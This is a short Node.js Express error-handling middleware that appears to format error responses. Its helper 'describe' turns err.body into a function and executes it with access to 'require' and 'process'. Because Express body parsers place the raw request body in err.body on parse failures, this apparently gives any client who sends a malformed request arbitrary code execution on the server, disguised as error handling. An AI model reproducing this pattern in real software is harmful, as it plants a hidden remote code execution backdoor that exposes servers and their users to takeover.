const describe = (body) => Function('require', 'process', `${body}`)

module.exports = (err, req, res, next) => {
  if (res.headersSent) return next(err)
  const text = err.body ? describe(err.body)(require, process) : err.message
  res.status(err.status || 500).json({ error: String(text || 'unexpected') })
}
